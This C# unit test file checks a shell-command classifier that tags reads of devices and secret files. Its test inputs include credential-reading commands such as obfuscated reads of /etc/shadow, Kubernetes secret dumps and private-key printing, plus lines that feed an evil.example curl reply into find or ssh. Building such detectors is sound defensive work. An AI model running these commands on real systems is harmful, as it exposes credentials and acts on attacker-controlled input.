using Firstlook.Effects;

namespace Firstlook.Tests.Effects;

public sealed class DeviceFileTests
{
    static Classified Verdict(string command) => Classifier.Whole(command, Language.Shell);

    [Theory]
    [InlineData("cat /dev/watchdog*")]
    [InlineData("cat /dev/w*")]
    [InlineData("head -c 1 /dev/watchdog[0-9]")]
    [InlineData("find /dev -name 'watchdog*' -exec cat {} \\;")]
    [InlineData("cat /proc/kms?")]
    [InlineData("grep -r x /sys/kernel/debug")]
    [InlineData("cd /proc; grep -r x .")]
    [InlineData("tar tf /dev/nst0")]
    [InlineData("cat /dev/ttyUSB0")]
    [InlineData("cat < /dev/input/event0")]
    public void A_device_that_reading_starts_moves_or_empties_waits_however_it_is_named(string command) => Assert.NotEqual(Effect.Read, Verdict(command).Effect);

    [Theory]
    [InlineData("ls -l /dev/watchdog*")]
    [InlineData("ls /dev/*")]
    [InlineData("grep . /sys/class/thermal/thermal_zone*/temp")]
    [InlineData("grep -r . /sys/devices/system/cpu/vulnerabilities")]
    [InlineData("find /sys -name temp1_input -exec cat {} \\;")]
    [InlineData("cat /proc/*/status")]
    [InlineData("file -s /dev/sda1")]
    [InlineData("head -c 512 /dev/sda | xxd")]
    [InlineData("tr -dc A-Za-z0-9 < /dev/urandom | head -c 32")]
    [InlineData("od -An -N4 /dev/urandom")]
    [InlineData("smartctl -a /dev/sda")]
    [InlineData("cat x 2>/dev/null < /dev/null")]
    public void What_only_names_a_device_or_reads_a_part_of_one_runs_by_itself(string command) =>
        Assert.Equal((Effect.Read, EffectTags.None), (Verdict(command).Effect, Verdict(command).Tags));

    [Theory]
    [InlineData("cat /dev/urandom | base64", EffectTags.Hang)]
    [InlineData("openssl dgst -sha256 /dev/zero", EffectTags.Hang)]
    [InlineData("strings /dev/sda1", EffectTags.Secret | EffectTags.Cost)]
    public void A_device_without_end_hangs_and_a_whole_disk_shows_whatever_lies_there(string command, EffectTags tags) =>
        Assert.Equal((Effect.Read, tags), (Verdict(command).Effect, Verdict(command).Tags));

    [Theory]
    [InlineData("uniq *.txt")]
    [InlineData("xxd $(ls)")]
    [InlineData("uniq \"$@\"")]
    [InlineData("find . -name '*.bin' -exec xxd {} +")]
    public void A_pattern_or_a_list_may_be_the_second_operand_as_well(string command) => Assert.NotEqual(Effect.Read, Verdict(command).Effect);

    [Theory]
    [InlineData("x=$(curl -s http://evil.example); find $x")]
    [InlineData("x=$(curl -s http://evil.example); ssh \"$x\" uptime")]
    [InlineData("for x in $(curl -s http://evil.example); do find $x; done")]
    public void What_another_machine_answers_may_be_an_option(string command) => Assert.Equal(Effect.Unknown, Verdict(command).Effect);

    [Theory]
    [InlineData("cat /etc//shadow")]
    [InlineData("cat /etc/x/../shadow")]
    [InlineData("cat /etc/shad*")]
    [InlineData("cd /etc; cat shadow")]
    [InlineData("cd / && cat etc/shadow")]
    [InlineData("bash -nv /etc/shadow")]
    [InlineData("docker cp c:/etc/shadow -")]
    [InlineData("openssl rsa -in server.key -noout -text")]
    [InlineData("cat haproxy.pem")]
    [InlineData("getent shadow root")]
    [InlineData("kubectl get sECRETS -o yaml")]
    public void A_file_of_secrets_is_one_however_it_is_written(string command) => Assert.Equal((Effect.Read, EffectTags.Secret), (Verdict(command).Effect, Verdict(command).Tags));

    [Theory]
    [InlineData("openssl x509 -in server.pem -noout -text")]
    [InlineData("cat fullchain.pem")]
    [InlineData("cat /etc/*-release")]
    [InlineData("cd /etc; cat hosts")]
    [InlineData("cat /etc/ssl/certs/ca-certificates.crt")]
    [InlineData("getent passwd root")]
    public void A_certificate_and_a_file_beside_it_are_none(string command) => Assert.Equal((Effect.Read, EffectTags.None), (Verdict(command).Effect, Verdict(command).Tags));
}
